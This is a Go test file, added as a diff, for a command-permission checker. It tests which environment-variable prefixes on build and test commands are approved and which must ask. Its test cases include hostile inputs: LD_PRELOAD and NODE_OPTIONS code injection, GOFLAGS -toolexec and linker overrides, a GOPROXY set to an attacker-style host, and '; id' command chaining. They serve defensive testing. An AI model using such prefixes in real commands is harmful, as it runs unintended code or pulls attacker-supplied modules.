@@ -1,0 +1,59 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package permissions
+
+import (
+	"strings"
+	"testing"
+)
+
+// Variables set before the command: the plain ones pass under the
+// command's rule, every other asks, and the command is checked as if it
+// stood alone.
+func TestAssignmentsBeforeTheCommand(t *testing.T) {
+	rules := []string{"go build", "cargo test", "npm test", "pytest"}
+	cases := map[string]string{ // line: "" approved, else a part of the reason
+		"GOOS=windows go build":                                         "",
+		"CGO_ENABLED=0 GOOS=linux GOARCH=arm64 go build":                "",
+		"RUST_BACKTRACE=1 cargo test":                                   "",
+		"RUST_LOG=debug CARGO_TERM_COLOR=always cargo test --workspace": "",
+		"NODE_ENV=test npm test":                                        "",
+		"PYTHONDONTWRITEBYTECODE=1 pytest -q":                           "",
+		"CI= go build":                                                  "",
+		"GOOS='linux' go build":                                         "",
+		"FOO=1 go build":                                                "sets a variable before the command",
+		"GOPROXY=https://evil.example go build":                         "sets a variable before the command",
+		"LD_PRELOAD=x.so go build":                                      "`LD_PRELOAD` loads a library that runs code",
+		"NODE_OPTIONS=--require=x npm test":                             "`NODE_OPTIONS` runs another program",
+		"GOFLAGS=-toolexec=x go build":                                  "`GOFLAGS` changes the configuration",
+		"RUSTFLAGS=-Clinker=x cargo test":                               "`RUSTFLAGS` changes the configuration",
+		"HOME=. go build":                                               "`HOME` changes the configuration",
+		"PATH=bin go build":                                             "`PATH`",
+		"GOOS=linux FOO=1 go build":                                     "sets a variable before the command",
+		"GOOS+=x go build":                                              "sets a variable before the command",
+		"GOOS=/tmp/x go build":                                          "outside the project",
+		"GOOS=linux":                                                    "sets a variable before the command",
+		"GOOS=linux go build -toolexec x":                               "runs another program",
+		"GOOS=linux go vet":                                             "no allowed rule starts this line",
+		"GOOS=linux go build; id":                                       "`;` can chain commands",
+		"GOOS=$X go build":                                              "`$` expands variables",
+	}
+	root := repo(t, cleanConfig)
+	for line, want := range cases {
+		v := checkIn(root, "", rules, line)
+		switch {
+		case want == "" && !v.Approved:
+			t.Errorf("%q asks (%s), want it approved", line, v.Reason)
+		case want != "" && v.Approved:
+			t.Errorf("%q is approved, want it to ask (%s)", line, want)
+		case want != "" && !strings.Contains(v.Reason.String(), want):
+			t.Errorf("%q asks with %q, want %q", line, v.Reason, want)
+		}
+	}
+	// A rule cannot set them: the command's rule approves the line.
+	for _, r := range []string{"GOOS=linux go build", "FOO=1 go test"} {
+		if AcceptRule(r).IsZero() {
+			t.Errorf("rule %q is accepted, want it refused", r)
+		}
+	}
+}
